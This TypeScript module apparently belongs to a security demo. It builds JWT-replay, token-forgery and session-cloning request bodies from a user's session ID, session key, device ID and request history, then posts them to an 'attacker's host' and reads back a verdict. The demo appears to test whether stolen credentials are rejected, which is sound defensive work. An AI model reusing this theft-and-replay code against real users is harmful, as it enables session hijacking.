import type {
  CloneBody,
  JwtReplayBody,
  OtaForgeryBody,
  VerdictBody,
} from '@one-tick-ahead/api/contract/bodies'
import { LOG_ID_HEADER } from '@one-tick-ahead/api/contract/headers'
import { ANSWER_LIMIT_MS, withTimeLimit } from '@one-tick-ahead/ota/client/probe'
import { joinHistory } from '@one-tick-ahead/ota/history'
import { whyNoAnswer } from './call-result'
import { type Outcome, outcomeOf } from './outcome'
import type { UserInfo } from './user-info'

/** Body of spec §7, call 6. */
export const jwtForgeryBody = (
  user: Pick<UserInfo, 'jsessionID' | 'token'>,
  url: string,
): JwtReplayBody => ({
  jsessionID: user.jsessionID,
  jwt: user.token,
  url,
})

/** Body of spec §7, call 7. @param ota a token for a request id that the attacker does not get. */
export const otaForgeryBody = (
  user: Pick<UserInfo, 'jsessionID'>,
  ota: string,
  url: string,
): Omit<OtaForgeryBody, 'requestId'> => ({
  jsessionID: user.jsessionID,
  ota,
  url,
})

/** Body of spec §7, call 8: everything a script in the page could steal. */
export const cloningBody = (user: UserInfo, url: string): Omit<CloneBody, 'deviceCookie'> => ({
  deviceID: user.deviceId,
  jsessionID: user.jsessionID,
  sessionKey: user.sessionkey,
  requestHistory: joinHistory(user.requestHistory),
  url,
})

/** What was sent, to be shown; to the attacker the names and values of spec §7, calls 6 to 8. */
export type AttackBody = Readonly<Record<string, string>>

/** Null unless the value is a verdict. */
export function readVerdict(value: unknown): VerdictBody | null {
  if (typeof value !== 'object' || value === null) return null
  if (!('message' in value) || typeof value.message !== 'string') return null
  if (!('statusCode' in value) || !Number.isInteger(value.statusCode)) return null
  return { message: value.message, statusCode: Number(value.statusCode) }
}

/** One attack as this page sent it. It holds what a thief has: it stays in memory, beside its row. */
export interface AttackRequest {
  method: 'GET' | 'POST'
  /** A path, or a full URL. */
  url: string
  headers: Readonly<Record<string, string>>
  /** Of a POST, as JSON. */
  body?: AttackBody
}

/**
 * What goes to the attacker's host.
 * @param token of whoever asks: the host counts visitors by it, for many may share an address.
 */
export const attackRequest = (
  endpoint: string,
  body: AttackBody,
  token: string,
): AttackRequest => ({
  method: 'POST',
  url: endpoint,
  headers: { 'Content-Type': 'application/json', Authorization: token },
  body,
})

/**
 * A verdict, whatever it says, with the status of the answer that brought it; or why there is none,
 * in words for the visitor.
 */
export type AttackAnswer =
  | { ok: true; outcome: Outcome; verdict: VerdictBody; status: number; logId: string | null }
  | { ok: false; outcome: Exclude<Outcome, 'in' | 'held'>; message: string }

/** The attacker host's own answer when its target gave none. */
const HTTP_BAD_GATEWAY = 502

const SILENCE = {
  offline: 'No answer: this device is offline.',
  timeout: `The attacker host did not answer in ${ANSWER_LIMIT_MS / 1000} s.`,
  unreachable: 'The attacker host could not be reached.',
}

/** Sends a stolen body to the attacker's host; a failure is an answer, never a rejection. */
export async function runAttack(
  fetchFn: typeof fetch,
  { url, method, headers, body }: AttackRequest,
  signal: AbortSignal,
  isOnline = true,
): Promise<AttackAnswer> {
  try {
    const response = await fetchFn(url, {
      method,
      headers,
      credentials: 'include',
      body: JSON.stringify(body),
      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
    })
    const verdict = readVerdict(await response.json().catch(() => null))
    if (verdict) {
      const isSilent = verdict.statusCode === HTTP_BAD_GATEWAY
      const outcome = isSilent ? 'no-answer' : outcomeOf(verdict.statusCode)
      const logId = response.headers.get(LOG_ID_HEADER)
      return { ok: true, outcome, verdict, status: response.status, logId }
    }
    const message = 'The attacker host sent an answer that cannot be read.'
    return { ok: false, outcome: 'no-verdict', message }
  } catch (error) {
    const message = SILENCE[whyNoAnswer(error, isOnline)]
    return { ok: false, outcome: 'no-answer', message }
  }
}
